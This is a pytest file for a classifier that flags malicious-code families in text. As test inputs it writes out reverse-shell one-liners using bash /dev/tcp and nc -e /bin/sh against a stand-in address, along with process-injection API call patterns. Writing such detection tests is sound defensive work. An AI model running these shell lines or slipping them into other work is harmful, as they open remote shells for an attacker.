from __future__ import annotations

import pytest

from enrichers.classify import scan
from enrichers.classify.cues import COMMAND
from enrichers.classify.glance import glance
from enrichers.classify.look import look
from enrichers.classify.malicious import KLASS, RULES, rows

FAMILIES = [row for row in rows() if row.family != RULES]
CALLS = "write¦process¦memory(child, base\nset¦thread¦context(child\nvirtual¦alloc¦ex(child, base".replace(
    "¦", ""
)


def found(text: str) -> list[str]:
    return [span.type for span in scan(text.replace("¦", "")) if span.klass == KLASS]


@pytest.mark.parametrize(("family", "text"), [(row.family, text) for row in FAMILIES for text in row.hits])
def test_signs_of_a_family_together_are_malicious_code(family: str, text: str) -> None:
    assert family in found(text)


@pytest.mark.parametrize("text", [text for row in FAMILIES for text in row.misses])
def test_what_administrators_and_teachers_write_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_every_family_has_a_hit_and_a_near_miss() -> None:
    assert [row.family for row in rows() if not (row.hits and row.misses)] == []


def test_no_sign_counts_twice() -> None:
    assert found("dup2(fd, 0)\ndup2(fd, 1)\ndup2(fd, 2)\nconnect(") == []


def test_signs_far_apart_do_not_belong_together() -> None:
    first, *others = CALLS.split("\n")
    assert found("\n".join((first, "x = 1\n" * 300, *others))) == ["process_injection"]
    assert found("\n".join((first, "x = 1\n" * 400, *others))) == []


@pytest.mark.parametrize(
    ("before", "after", "told"),
    [
        ("", "", True),
        ("This is how you get back in: ", "", True),
        ("", "  # this is how it gets back in", True),
        ("", " so that it is open for the attacker", False),
        ("An attacker may run it as ", "", False),
    ],
)
def test_prose_about_a_sign_makes_it_talk(before: str, after: str, told: bool) -> None:
    assert bool(found(f"{before}bash¦ -i >& /dev/¦tcp/198.51.100.7/4{after}")) is told


def test_a_text_written_to_find_such_code_is_none() -> None:
    sigma = "logsource:\ndetection:\n  words:\ncondition: words\n"
    assert found(CALLS) == ["process_injection"]
    assert found(sigma + CALLS) == []


def test_a_flood_of_one_sign_hides_no_other() -> None:
    assert found("iex (\n" * 5000 + CALLS) == ["process_injection"]


def test_a_finding_begins_at_its_line_and_is_parted_by_what_else_is_found() -> None:
    spans = scan("One line.\nn¦c 198.51.100.7 4 -e /bin/sh".replace("¦", ""))
    places = [(span.klass, span.start, span.end) for span in spans]
    assert places == [(KLASS, 10, 13), ("personal", 13, 25), (KLASS, 25, 38)]


def test_what_is_encoded_counts_as_what_it_hides() -> None:
    joined = look("run('n¦c 198.51.100.7 4 -e /b' + 'in/sh')".replace("¦", ""))
    assert [span.klass for span in joined.layers[0].seen.spans if span.klass == KLASS]


@pytest.mark.parametrize("text", [text for row in FAMILIES for text in row.hits])
def test_every_text_with_such_code_is_worth_the_second_pass(text: str) -> None:
    assert COMMAND in glance(text.replace("¦", ""))
